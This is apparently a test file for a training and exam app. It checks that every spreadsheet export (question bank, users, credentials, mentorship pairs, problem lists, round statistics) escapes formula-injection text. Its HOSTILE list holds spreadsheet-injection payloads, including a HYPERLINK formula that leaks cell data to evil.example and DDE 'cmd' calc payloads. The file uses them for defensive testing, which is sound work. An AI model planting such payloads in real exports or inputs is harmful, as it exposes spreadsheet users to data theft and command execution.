// Every spreadsheet the app hands out, filled with text that a spreadsheet program would run
// as a formula (issue 8, item 8; ADR 009). CSV cells must come out escaped; .xlsx cells must be
// typed text, never formulas. Each export is built through its own domain function.
import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, test } from 'vitest'
import { credentialsWorkbook } from '#app/admin/import/templates.ts'
import { makeAdmin, makeUnit, makeUser, tag } from '#app/admin/test-fixtures.ts'
import { exportUsersXlsx } from '#app/admin/user-export.ts'
import { exportProblemsXlsx } from '#app/courses/problems.ts'
import { QuestionContentSchema } from '#app/exams/bank/question-types.ts'
import { insertQuestion } from '#app/exams/bank/questions.ts'
import { bankExportFile } from '#app/exams/import/bank-export.ts'
import { createBankQuestions, createPerson, createRound, questionContent, sitRound } from '#app/exams/rounds/test-fixtures.ts'
import { roundStatisticsWorkbook } from '#app/rankings/round-statistics-export.server.ts'
import { exportPairingsXlsx } from '#app/mentorship/pairing-export.ts'
import { createPairing, PairingInputSchema } from '#app/mentorship/pairings.ts'
import { getRoundStatistics } from '#app/rankings/round-statistics.ts'
import { FORMULA_LEADING, readSpreadsheet } from '#app/utils/xlsx.server.ts'
import { describeEachProvider } from '#tests/db-utils.ts'

/** What the penetration test wrote into the bank, and the other characters Excel treats as a formula start. */
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
	"+cmd|' /C calc'!A0",
	'@SUM(1+1)*cmd|\' /C calc\'!A0',
	'-2+3',
	'=1+1\n第二行的说明',
]

/** Every cell of every sheet: none may be a formula, and the hostile texts are there as plain text. */
async function xlsxCells(file: Buffer) {
	const workbook = new ExcelJS.Workbook()
	await workbook.xlsx.load(file as unknown as ExcelJS.Buffer)
	const cells: { type: ExcelJS.ValueType; value: ExcelJS.CellValue }[] = []
	workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push({ type: cell.type, value: cell.value }))))
	return cells
}

async function expectInertXlsx(file: Buffer, expectedTexts: string[]) {
	const cells = await xlsxCells(file)
	expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([])
	const texts = cells.filter((cell) => cell.type === ExcelJS.ValueType.String).map((cell) => cell.value)
	for (const text of expectedTexts) expect(texts).toContain(text)
}

describeEachProvider('exports never hand out a formula', (getDb) => {
	test('bank export: CSV cells that start a formula are escaped and import back unchanged; .xlsx cells are text', async () => {
		const db = await getDb()
		const marker = tag()
		const stems = HOSTILE.map((text, index) => `${text}（${marker}-${index}）`)
		for (const [index, stem] of stems.entries()) {
			const base = questionContent('single')
			const content = QuestionContentSchema.parse({ ...base, stem, explanation: HOSTILE[index], tags: [marker] })
			await db.$transaction((tx) => insertQuestion(tx, { content, status: 'active', actorId: null }))
		}

		const csv = await bankExportFile(db, { tag: marker, flagged: false }, 'csv')
		const raw = Papa.parse<string[]>(csv.body.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data
		const dangerous = raw.flat().filter((cell) => FORMULA_LEADING.test(cell))
		expect(dangerous).toEqual([])
		// Each hostile cell went out with the apostrophe Excel shows as plain text.
		for (const stem of stems) expect(raw.flat()).toContain(`'${stem}`)
		const readBack = await readSpreadsheet(csv.body, csv.fileName)
		if (!readBack.ok) throw new Error(readBack.error)
		expect(readBack.rows.map((row) => row.cells['题干']).sort()).toEqual([...stems].sort())
		expect(readBack.rows.map((row) => row.cells['解析']).sort()).toEqual([...HOSTILE].sort())

		const xlsx = await bankExportFile(db, { tag: marker, flagged: false }, 'xlsx')
		await expectInertXlsx(xlsx.body, [...stems, ...HOSTILE])
	})

	test('people export and the temporary-password sheet: names and units stay text', async () => {
		const db = await getDb()
		const admin = await makeAdmin(db)
		const unit = await makeUnit(db, { name: `${HOSTILE[0]}${tag()}` })
		const names = HOSTILE.slice(1).map((text) => `${text}${tag()}`)
		for (const name of names) await makeUser(db, { unitId: unit.id, name })
		const { file } = await exportUsersXlsx(db, admin, { unitId: unit.id })
		await expectInertXlsx(file, [unit.name, ...names])

		const credentials = await credentialsWorkbook(names.map((name, i) => ({ username: `u${i}`, name, unit: unit.name, temporaryPassword: HOSTILE[i]! })))
		await expectInertXlsx(credentials, [...names, unit.name, ...HOSTILE.slice(0, names.length)])
	})

	test('导师带徒 pairs export: names and goals stay text', async () => {
		const db = await getDb()
		const admin = await makeAdmin(db)
		const unit = await makeUnit(db, { name: `${HOSTILE[3]}${tag()}` })
		const mentor = await makeUser(db, { unitId: unit.id, roles: ['mentor', 'lecturer'], name: `${HOSTILE[1]}${tag()}` })
		const apprentice = await makeUser(db, { unitId: unit.id, name: `${HOSTILE[2]}${tag()}` })
		const input = PairingInputSchema.parse({ mentorId: mentor.id, apprenticeId: apprentice.id, startsOn: '2026-09-01', endsOn: '2027-08-31', businessGoals: HOSTILE[0], partyGoals: HOSTILE[4] })
		expect(await createPairing(db, admin, input)).toMatchObject({ ok: true })
		const { file } = await exportPairingsXlsx(db, admin, { status: 'all', unitId: unit.id, q: '' })
		await expectInertXlsx(file, [mentor.name, apprentice.name, unit.name, HOSTILE[0]!, HOSTILE[4]!.trim()])
	})

	test('共性问题清单 export: every field stays text', async () => {
		const db = await getDb()
		const category = `类别${tag()}`
		for (const [index, text] of HOSTILE.entries()) {
			await db.commonProblem.create({
				data: {
					code: `EVIL-${tag()}`,
					title: `${text}${index}`,
					topic: 'fiscal',
					category,
					description: text,
					typicalEvidence: text,
					regulationBasis: text,
					recommendedHandling: text,
					sourceHash: 'test',
				},
			})
		}
		await expectInertXlsx(await exportProblemsXlsx(db, { category }), HOSTILE)
	})

	test('round statistics export: titles and stems stay text', async () => {
		const db = await getDb()
		const T0 = new Date('2026-06-01T02:00:00.000Z')
		await createBankQuestions(db, 'single', 2, { topic: 'big_data' })
		const round = await createRound(db, T0, { rules: [{ topic: 'big_data', type: 'single', difficulty: null, count: 2, pointsEach: 1 }] })
		for (let i = 0; i < 2; i++) await sitRound(db, { roundId: round.id, person: await createPerson(db), startAt: T0, isRight: (p) => p === 1 })
		const stats = await getRoundStatistics(db, round.id)
		if (!stats) throw new Error('no statistics')
		const hostile = {
			...stats,
			round: { ...stats.round, title: HOSTILE[0]!, seasonName: HOSTILE[1]! },
			items: stats.items.map((item, index) => ({ ...item, stem: HOSTILE[2 + index]! })),
		}
		await expectInertXlsx(await roundStatisticsWorkbook(hostile), HOSTILE.slice(0, 2 + stats.items.length))
	})
})

test('every spreadsheet the app writes goes through writeCsv or writeXlsx, the two writers tested above', () => {
	const root = path.resolve('app')
	const writers: string[] = []
	const walk = (dir: string) => {
		for (const entry of readdirSync(dir, { withFileTypes: true })) {
			const full = path.join(dir, entry.name)
			if (entry.isDirectory()) {
				if (entry.name !== 'generated') walk(full)
			} else if (/\.(ts|tsx)$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) && !entry.name.startsWith('test-fixtures')) {
				if (/Papa\.unparse|\.xlsx\.write|\.csv\.write|new ExcelJS\.Workbook/.test(readFileSync(full, 'utf8'))) writers.push(path.relative(root, full))
			}
		}
	}
	walk(root)
	expect(writers).toEqual(['utils/xlsx.server.ts'])
})
